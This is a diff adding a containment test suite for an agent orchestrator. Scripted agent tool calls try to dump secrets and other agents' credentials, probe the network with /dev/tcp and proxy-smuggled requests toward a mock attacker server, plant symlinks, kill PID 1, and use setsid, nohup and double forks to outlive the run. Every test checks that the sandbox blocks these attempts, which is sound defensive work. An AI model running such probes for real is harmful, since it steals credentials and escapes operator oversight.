@@ -1,0 +1,319 @@
+/**
+ * An agent is untrusted code: each case here is an attack a task's prompt can make an agent
+ * try (or a local user can), on every runtime, and the harm it must fail to do. The fake
+ * model scripts the agent's tool calls; the real CLI runs them in the real sandbox.
+ */
+import { execFile } from "node:child_process";
+import { randomUUID } from "node:crypto";
+import {
+  chmodSync,
+  existsSync,
+  lstatSync,
+  mkdtempSync,
+  readdirSync,
+  readFileSync,
+  rmSync,
+  statSync,
+  writeFileSync,
+} from "node:fs";
+import { createServer, type Server } from "node:http";
+import { tmpdir } from "node:os";
+import path from "node:path";
+import { promisify } from "node:util";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { AgentState } from "../../gen/conductor/v1/agent_pb.js";
+import { TaskState } from "../../gen/conductor/v1/task_pb.js";
+import { startFakeModel, type FakeModel } from "../fake-model/server.ts";
+import {
+  eventually,
+  scripted,
+  spec,
+  startConductor,
+  testRuntimes,
+  waitForEnd,
+  waitForState,
+  type Conductor,
+} from "../harness.ts";
+
+const run = promisify(execFile);
+const API_KEY = `sk-test-${randomUUID()}`;
+
+/** Live (not zombie) processes anywhere on the machine whose command line matches. */
+function processesMatching(re: RegExp): string[] {
+  const found: string[] = [];
+  for (const entry of readdirSync("/proc")) {
+    if (!/^\d+$/.test(entry)) continue;
+    try {
+      const cmd = readFileSync(`/proc/${entry}/cmdline`, "utf8").replaceAll("\0", " ").trim();
+      const stat = readFileSync(`/proc/${entry}/stat`, "utf8");
+      if (re.test(cmd) && !/\) Z /.test(stat)) found.push(`${entry}: ${cmd}`);
+    } catch {
+      // gone meanwhile
+    }
+  }
+  return found;
+}
+
+/** Waits until no process matches (the kernel may take a moment to reap a SIGKILLed one). */
+async function noneLeft(re: RegExp): Promise<void> {
+  await eventually(
+    async () => (processesMatching(re).length === 0 ? true : undefined),
+    `no process matching ${re} (left: ${processesMatching(re).join("; ")})`,
+    5000,
+  );
+}
+
+describe.each(testRuntimes())("containment on %s", (runtime) => {
+  let model: FakeModel;
+  let conductor: Conductor;
+  let attacker: Server;
+  let attackerHits: string[];
+  let outside: string;
+  const node = `contain-${randomUUID().slice(0, 8)}`;
+  const data = () => conductor.dataDir;
+  const workspaceOf = (agent: string) => path.join(data(), "agents", agent, "workspace");
+  const runDirOf = (agent: string) => path.join(data(), "agents", agent, "run");
+  const submit = async (steps: unknown[], extra: Parameters<typeof spec>[0] = {}) => {
+    const { task } = await conductor.client.submitTask({
+      spec: spec({ allowedTools: ["Bash", "Read", "Write"], prompt: scripted(steps), ...extra }),
+    });
+    return task!.id;
+  };
+
+  beforeAll(async () => {
+    model = await startFakeModel();
+    attackerHits = [];
+    attacker = createServer((req, res) => {
+      attackerHits.push(`${req.method} ${req.url} key=${String(req.headers["x-api-key"])}`);
+      res.end("stolen");
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
+    // World-writable: only the sandbox may stop an agent writing here.
+    outside = mkdtempSync(path.join(tmpdir(), "contain-outside-"));
+    chmodSync(outside, 0o777);
+    conductor = await startConductor({
+      agents: 2,
+      runtime,
+      modelUrl: model.url,
+      env: {
+        ANTHROPIC_API_KEY: API_KEY,
+        CONDUCTOR_ORCHESTRATOR_NODE_ID: node,
+        CONDUCTOR_AGENT_RESULT_GRACE_SECONDS: "2",
+      },
+    });
+  });
+  afterAll(async () => {
+    await conductor?.close();
+    await model?.close();
+    attacker?.closeAllConnections();
+    await new Promise((resolve) => attacker?.close(resolve));
+    rmSync(outside, { recursive: true, force: true });
+  });
+
+  it("keeps secrets, the data folder, other agents and the network out of reach", async () => {
+    const d = data();
+    const modelPort = new URL(model.url).port;
+    const creds = ["agent-1", "agent-2"].map((a) => path.join(runDirOf(a), "broker.credential"));
+    const id = await submit([
+      { bash: "{ id -u; env; } > probe-env.txt 2>&1" },
+      {
+        bash: `for f in ${d}/broker.key ${d}/orchestrator.db ${creds.join(" ")}; do echo "== $f"; cat "$f" | base64 -w0; echo; done > probe-read.txt 2>&1; true`,
+      },
+      {
+        bash: `echo escaped > ${outside}/bash.txt; echo escaped > ${d}/planted.txt; cp ${creds[0]} ${outside}/; true`,
+      },
+      { write: { path: path.join(outside, "write.txt"), content: "escaped" } },
+      { tool: { name: "Read", input: { file_path: creds[0] } } },
+      { write: { path: "read-1.txt", content: "{{last_tool_result}}" } },
+      { tool: { name: "Read", input: { file_path: creds[1] } } },
+      { write: { path: "read-2.txt", content: "{{last_tool_result}}" } },
+      {
+        bash: `(exec 3<>/dev/tcp/127.0.0.1/${modelPort} && echo connected) > probe-net.txt 2>&1; true`,
+      },
+      { text: "probed" },
+    ]);
+    const ended = await waitForEnd(conductor.client, id);
+    expect(ended.state, ended.result?.error).toBe(TaskState.SUCCEEDED);
+    const ws = workspaceOf(ended.agentId);
+    const other = ended.agentId === "agent-1" ? "agent-2" : "agent-1";
+    const otherCred = readFileSync(path.join(runDirOf(other), "broker.credential"), "utf8").trim();
+
+    const env = readFileSync(path.join(ws, "probe-env.txt"), "utf8");
+    expect(env.split("\n")[0]).not.toBe("0"); // not root
+    expect(env).not.toContain(API_KEY);
+    const read = readFileSync(path.join(ws, "probe-read.txt"), "utf8");
+    for (const secret of [path.join(d, "broker.key"), path.join(d, "orchestrator.db")]) {
+      expect(read).not.toContain(readFileSync(secret).subarray(0, 24).toString("base64"));
+    }
+    expect(read).not.toContain(Buffer.from(otherCred).toString("base64").slice(0, 40));
+    for (const f of ["read-1.txt", "read-2.txt"]) {
+      expect(readFileSync(path.join(ws, f), "utf8")).not.toContain(otherCred);
+    }
+    expect(readdirSync(outside)).toEqual([]);
+    expect(existsSync(path.join(d, "planted.txt"))).toBe(false);
+    expect(readFileSync(path.join(ws, "probe-net.txt"), "utf8")).not.toContain("connected");
+    // The model saw the real key: the proxy, outside, added it.
+    expect(model.requests.some((r) => r.headers["x-api-key"] === API_KEY)).toBe(true);
+  });
+
+  it("sends nothing but the Messages API to the configured upstream, whatever the target", async () => {
+    const { port } = attacker.address() as { port: number };
+    const targets = [
+      `//127.0.0.1:${port}/x`,
+      `http://127.0.0.1:${port}/x`,
+      `//127.0.0.1:${port}/v1/messages`,
+      `/v1/messages/../../x`,
+      `/%2F%2F127.0.0.1:${port}/x`,
+    ];
+    const probes = targets
+      .map(
+        (t) =>
+          `exec 3<>/dev/tcp/127.0.0.1/$p; printf 'POST ${t} HTTP/1.1\\r\\nHost: 127.0.0.1:${port}\\r\\nContent-Length: 2\\r\\nConnection: close\\r\\n\\r\\n{}' >&3; timeout 5 cat <&3 | head -1; exec 3>&-`,
+      )
+      .join("; ");
+    const id = await submit([
+      { bash: `p=\${ANTHROPIC_BASE_URL##*:}; { ${probes}; } > probe-proxy.txt 2>&1; true` },
+      { text: "probed" },
+    ]);
+    const ended = await waitForEnd(conductor.client, id);
+    expect(ended.state, ended.result?.error).toBe(TaskState.SUCCEEDED);
+    const answers = readFileSync(path.join(workspaceOf(ended.agentId), "probe-proxy.txt"), "utf8");
+    expect(answers.match(/^HTTP\/1\.1 [45]\d\d/gm), answers).toHaveLength(targets.length);
+    expect(attackerHits).toEqual([]);
+  });
+
+  it("lets only the agent's own user reach its model socket, and nobody read the data folder", async () => {
+    const sock = path.join(runDirOf("agent-1"), "model.sock");
+    const probe = `require("net").connect(${JSON.stringify(sock)}).on("connect",()=>{console.log("connected");process.exit(0)}).on("error",e=>{console.log(e.code);process.exit(0)})`;
+    const as = (uid: number) =>
+      run("setpriv", [
+        `--reuid=${uid}`,
+        `--regid=${uid}`,
+        "--clear-groups",
+        process.execPath,
+        "-e",
+        probe,
+      ]);
+    expect((await as(1001)).stdout.trim()).toBe("EACCES");
+    const d = data();
+    expect(statSync(d).mode & 0o777).toBe(0o700);
+    for (const name of readdirSync(d)) {
+      const st = lstatSync(path.join(d, name));
+      expect(st.mode & 0o077, `${name} is readable by others`).toBe(0);
+    }
+    const runDir = runDirOf("agent-1");
+    expect(statSync(runDir).mode & 0o777).toBe(0o751);
+    expect(statSync(runDir).uid).toBe(0);
+    expect(statSync(path.join(runDir, "broker.credential")).mode & 0o777).toBe(0o640);
+    expect(statSync(sock).mode & 0o777).toBe(0o600);
+    expect(statSync(sock).uid).toBe(1000);
+  });
+
+  it("never follows or writes through what an agent planted, when it is replaced", async () => {
+    const victim = path.join(tmpdir(), `contain-victim-${randomUUID()}`);
+    writeFileSync(victim, "original", { mode: 0o600 });
+    try {
+      const plant = ["agent-1", "agent-2"]
+        .map((a) => {
+          const r = runDirOf(a);
+          return `rm -f ${r}/broker.credential; ln -sf ${victim} ${r}/broker.credential; ln ${victim} ${r}/hard; ln -sf ${victim} ${r}/model.sock`;
+        })
+        .join("; ");
+      const id = await submit([
+        { bash: `{ ${plant}; kill -TERM 1; } > probe-plant.txt 2>&1; true` },
+        { text: "planted" },
+      ]);
+      const ended = await waitForEnd(conductor.client, id);
+      expect([TaskState.SUCCEEDED, TaskState.FAILED]).toContain(ended.state);
+      // Replace the agents: a container runtime's agent by killing its container, every
+      // runtime's by restarting Conductor (which makes every agent anew).
+      if (runtime !== "process") {
+        const ids = (
+          await run(runtime, ["ps", "-q", "--filter", `label=dev.conductor.node=${node}`])
+        ).stdout
+          .trim()
+          .split("\n")
+          .filter(Boolean);
+        for (const c of ids) await run(runtime, ["kill", c]);
+        await eventually(async () => {
+          const { agents } = await conductor.client.listAgents({});
+          const fresh = (
+            await run(runtime, ["ps", "-q", "--filter", `label=dev.conductor.node=${node}`])
+          ).stdout;
+          return agents.length === 2 &&
+            agents.every((a) => a.state === AgentState.IDLE) &&
+            ids.every((c) => !fresh.includes(c))
+            ? true
+            : undefined;
+        }, "the agents replaced");
+      }
+      for (const p of conductor.processes) await p.stop();
+      await conductor.restart();
+      expect(readFileSync(victim, "utf8")).toBe("original");
+      expect(statSync(victim).uid).toBe(0);
+      expect(statSync(victim).mode & 0o777).toBe(0o600);
+      for (const a of ["agent-1", "agent-2"]) {
+        const cred = lstatSync(path.join(runDirOf(a), "broker.credential"));
+        expect(cred.isFile()).toBe(true);
+        expect(existsSync(path.join(runDirOf(a), "hard"))).toBe(false);
+      }
+    } finally {
+      rmSync(victim, { force: true });
+    }
+  });
+
+  it("ends every process of a run with it: setsid, a clean environment, nohup, double fork", async () => {
+    const escapes = [
+      "setsid env -i sh -c 'sleep 4711' > /proc/$PPID/fd/1 2>&1 < /dev/null &",
+      "nohup sleep 4712 > /dev/null 2>&1 &",
+      "(sh -c 'sleep 4713 &' &)",
+      "(setsid sh -c 'env -i sleep 4714 &' &)",
+    ].join(" ");
+    const started = Date.now();
+    const id = await submit(
+      [{ bash: `${escapes} echo spawned; true` }, { text: "left things running" }],
+      { timeoutSeconds: 60 },
+    );
+    const ended = await waitForEnd(conductor.client, id);
+    expect(ended.state, ended.result?.error).toBe(TaskState.SUCCEEDED);
+    // Well within the timeout: at most the result grace (2 s) after the result.
+    expect(Date.now() - started).toBeLessThan(30_000);
+    await noneLeft(/^sleep 471[1-4]$/);
+  });
+
+  it("ends every process on timeout, including one holding the CLI's stdout", async () => {
+    const id = await submit(
+      [
+        {
+          bash: "setsid env -i sh -c 'sleep 4715' > /proc/$PPID/fd/1 2>&1 < /dev/null & sleep 4716",
+        },
+        { text: "never" },
+      ],
+      { timeoutSeconds: 4 },
+    );
+    const ended = await waitForEnd(conductor.client, id);
+    expect(ended.state).toBe(TaskState.TIMED_OUT);
+    await noneLeft(/^sleep 471[56]$/);
+  });
+
+  it("ends every process on cancel, and the agent is free again", async () => {
+    const id = await submit([
+      { bash: "setsid env -i sh -c 'sleep 4717' < /dev/null > /dev/null 2>&1 & sleep 4718" },
+      { text: "never" },
+    ]);
+    await waitForState(conductor.client, id, TaskState.RUNNING);
+    await eventually(
+      async () => (processesMatching(/^sleep 4718$/).length > 0 ? true : undefined),
+      "the run's sleep",
+    );
+    const agentId = (await conductor.client.getTask({ id })).task!.agentId;
+    await conductor.client.cancelTask({ id });
+    const ended = await waitForEnd(conductor.client, id);
+    expect(ended.state).toBe(TaskState.CANCELLED);
+    await noneLeft(/^sleep 471[78]$/);
+    await eventually(async () => {
+      const { agents } = await conductor.client.listAgents({});
+      return agents.find((a) => a.id === agentId)?.state === AgentState.IDLE ? true : undefined;
+    }, "the agent idle again");
+  });
+});
